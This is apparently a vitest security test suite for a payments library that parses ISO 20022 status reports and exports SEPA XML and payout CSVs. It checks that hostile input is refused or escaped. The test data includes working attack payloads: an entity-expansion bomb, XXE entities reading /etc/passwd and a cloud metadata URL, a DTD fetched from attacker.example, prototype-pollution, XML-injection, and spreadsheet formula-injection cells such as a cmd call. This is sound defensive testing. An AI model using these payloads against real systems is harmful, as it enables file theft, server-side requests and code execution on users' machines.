import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import { XMLParser } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { ApiError } from '@cw/errors';
import { pain001SchemaErrors } from '../../test/schema';
import { parsePain002 } from './pain002';
import { payoutsCsv } from './payouts-csv';
import { paypalPayoutsCsv } from './paypal-payouts';
import { parseResultsCsv } from './results-csv';
import { sandboxBankReport } from './sandbox-bank';
import { sepaCreditTransfer } from './sepa-credit-transfer';

const refusal = (fn: () => unknown): ApiError => {
  try {
    fn();
  } catch (err) {
    return err as ApiError;
  }
  throw new Error('expected a refusal');
};

const report = (body: string, prolog = '') =>
  `<?xml version="1.0"?>${prolog}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.10"><CstmrPmtStsRpt><OrgnlGrpInfAndSts><OrgnlMsgId>run.1</OrgnlMsgId><GrpSts>ACCP</GrpSts></OrgnlGrpInfAndSts><OrgnlPmtInfAndSts><TxInfAndSts><OrgnlEndToEndId>${body}</OrgnlEndToEndId><TxSts>RJCT</TxSts><StsRsnInf><Rsn><Prtry>X</Prtry></Rsn><AddtlInf>${body}</AddtlInf></StsRsnInf></TxInfAndSts></OrgnlPmtInfAndSts></CstmrPmtStsRpt></Document>`;

describe('the rails against hostile files and values', () => {
  it('refuses a status report carrying a DOCTYPE (entity expansion, external entities) with a 400, expanding and fetching nothing', () => {
    const laughs = `<!DOCTYPE Document [<!ENTITY a "lollollollollollollollollollol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>`;
    const variants: Array<[string, string]> = [
      ['billion laughs', report('&j;', laughs)],
      ['external file entity', report('&x;', '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
      ['external URL entity', report('&x;', '<!DOCTYPE Document [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>')],
      ['parameter entity', report('po.1', '<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>')],
      ['lower-case doctype', report('po.1', '<!doctype Document>')],
    ];
    for (const [what, xml] of variants) {
      const err = refusal(() => parsePain002(xml));
      expect(err, what).toBeInstanceOf(ApiError);
      expect([err.status, err.code], what).toEqual([400, 'invalid_parameter']);
      expect(err.detail, what).toMatch(/DOCTYPE/);
      expect(err.detail, what).not.toMatch(/lol|root:/);
    }
    // The sandbox bank reads its input the same way.
    expect(refusal(() => sandboxBankReport(report('&j;', laughs), { createdAt: '2025-07-01T00:00:00Z' })).code).toBe('invalid_parameter');
  });

  it('leaves object prototypes alone whatever element names a status report uses', () => {
    const hostile = report('po.1').replace(
      '<CstmrPmtStsRpt>',
      '<CstmrPmtStsRpt><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor>',
    );
    try {
      parsePain002(hostile);
    } catch (err) {
      expect(err).toBeInstanceOf(ApiError);
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('keeps a bank reason one plain line: control characters, bidi overrides and markup stay text, at most 300 characters', () => {
    const reason = parsePain002(
      report('po.1').replace(/<AddtlInf>.*<\/AddtlInf>/, `<AddtlInf>line1&#10;line2&#27;[31m\u202egnp.exe &lt;script&gt;${'x'.repeat(400)}</AddtlInf>`),
    ).payments[0]!.reason!;
    expect(reason.code).toBe('X');
    expect(reason.message).toMatch(/^line1 line2\[31mgnp\.exe <script>x+$/);
    expect(reason.message).toHaveLength(300);
  });

  it('never lets a creditor name or remittance add elements to the payment file (XML injection)', async () => {
    const inject = '</Nm></Cdtr><CdtrAcct><Id><IBAN>GB29NWBK60161331926819</IBAN></Id></CdtrAcct><Cdtr><Nm>x';
    const xml = sepaCreditTransfer({
      messageId: 'run_1',
      createdAt: '2025-06-30T00:00:00Z',
      debtor: { name: 'CW', iban: 'NL91ABNA0417164300', bic: 'ABNANL2A' },
      executionDate: '2025-07-01',
      payments: [{ endToEndId: 'po_1', amount: '1.00', creditor: { name: inject, iban: 'DE89370400440532013000' }, remittance: `]]><!-- ${inject}` }],
    });
    expect(xml).not.toContain('GB29NWBK60161331926819</IBAN>');
    expect(xml).not.toMatch(/<!--|<!\[CDATA|]]>/);
    const doc = new XMLParser({ isArray: (n) => n === 'CdtTrfTxInf' }).parse(xml) as {
      Document: { CstmrCdtTrfInitn: { PmtInf: { CdtTrfTxInf: Array<{ CdtrAcct: { Id: { IBAN: string } } }> } } };
    };
    expect(doc.Document.CstmrCdtTrfInitn.PmtInf.CdtTrfTxInf.map((t) => t.CdtrAcct.Id.IBAN)).toEqual(['DE89370400440532013000']);
    expect(await pain001SchemaErrors(xml)).toEqual([]);
  });

  it('never writes a cell a spreadsheet would run, nor a full account number, in the exported CSV files', () => {
    const formulas = ['=HYPERLINK("http://evil.example")', '+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    for (const f of formulas) {
      const generic = payoutsCsv([
        { payoutId: 'po_1', publisherId: 'pub_1', methodType: 'us_ach', last4: '6789', amount: '1.00', currency: 'USD', reference: f },
      ]);
      const cell = generic.split('\r\n')[1]!.split(',').slice(6).join(',');
      expect(cell, JSON.stringify(f)).toMatch(/^("?)'/);
      const paypal = paypalPayoutsCsv([{ payoutId: 'po_1', email: 'a@example.com', amount: '1.00', currency: 'USD', note: f }]);
      const note = paypal.split(',').slice(4, -1).join(',');
      expect(note, JSON.stringify(f)).not.toMatch(/^"?[=+\-@\t\r]/);
      expect(refusal(() => paypalPayoutsCsv([{ payoutId: 'po_1', email: `${f}@example.com`, amount: '1.00', currency: 'USD' }])).code).toBe(
        'invalid_parameter',
      );
    }
    for (const last4 of ['DE89370400440532013000', '123456789', '12345', '12 4', '']) {
      const err = refusal(() =>
        payoutsCsv([{ payoutId: 'po_1', publisherId: 'pub_1', methodType: 'us_ach', last4, amount: '1.00', currency: 'USD', reference: 'r' }]),
      );
      expect(err.errors?.[0]?.param, last4).toBe('payouts[0].last4');
      expect(err.detail).not.toContain(last4 || '\u0000');
    }
  });

  it('answers any mangled status report, payment file or results CSV with a result or a 400, never another error', () => {
    const fixtures = ['pain.002.001.10-accepted.xml', 'pain.002.001.03-rejected.xml', 'pain.002.003.03-group-rejected.xml'].map((f) =>
      readFileSync(resolve(import.meta.dirname, '../../test/fixtures/pain002', f), 'utf8'),
    );
    const pain001 = sepaCreditTransfer({
      messageId: 'run_1',
      createdAt: '2025-06-30T00:00:00Z',
      debtor: { name: 'CW', iban: 'NL91ABNA0417164300', bic: 'ABNANL2A' },
      executionDate: '2025-07-01',
      payments: [{ endToEndId: 'po_1', amount: '1.00', creditor: { name: 'Ana', iban: 'DE89370400440532013000' }, remittance: 'r' }],
    });
    const csv = 'payout_id,status,reason_code,reason_message\r\npo_1,paid,,\r\npo_2,failed,AC04,"closed, sorry"\r\n';
    const mangle = (text: string) =>
      fc
        .tuple(
          fc.nat({ max: text.length }),
          fc.nat({ max: 40 }),
          fc.string({ unit: fc.constantFrom('<', '>', '/', '"', ',', '&', ';', '\n', 'a', '_', '\u0000', 'Cd', 'TxSts') }),
        )
        .map(([at, cut, insert]) => text.slice(0, at) + insert + text.slice(at + cut));
    const holds = (fn: () => unknown) => {
      try {
        fn();
      } catch (err) {
        expect(err).toBeInstanceOf(ApiError);
      }
    };
    fc.assert(
      fc.property(fc.constantFrom(...fixtures).chain(mangle), (xml) => holds(() => parsePain002(xml))),
      { numRuns: 800 },
    );
    fc.assert(
      fc.property(mangle(pain001), (xml) => holds(() => sandboxBankReport(xml, { createdAt: '2025-07-01T00:00:00Z' }))),
      { numRuns: 300 },
    );
    fc.assert(
      fc.property(mangle(csv), (text) => holds(() => parseResultsCsv(text))),
      { numRuns: 600 },
    );
  });

  it('reads a results CSV crafted to break the parser as a 400, never a crash', () => {
    const header = 'payout_id,status,reason_code,reason_message\n';
    for (const csv of [
      `${header}"po_1,paid`,
      `${header}${'a'.repeat(70 * 1024)},paid,,`,
      `${header}\u0000,paid,,`,
      `${header}po_1,paid,,\n,,,`,
      '"'.repeat(10_000),
    ]) {
      const err = refusal(() => parseResultsCsv(csv));
      expect(err, csv.slice(0, 60)).toBeInstanceOf(ApiError);
      expect(err.code).toBe('invalid_parameter');
    }
  });
});
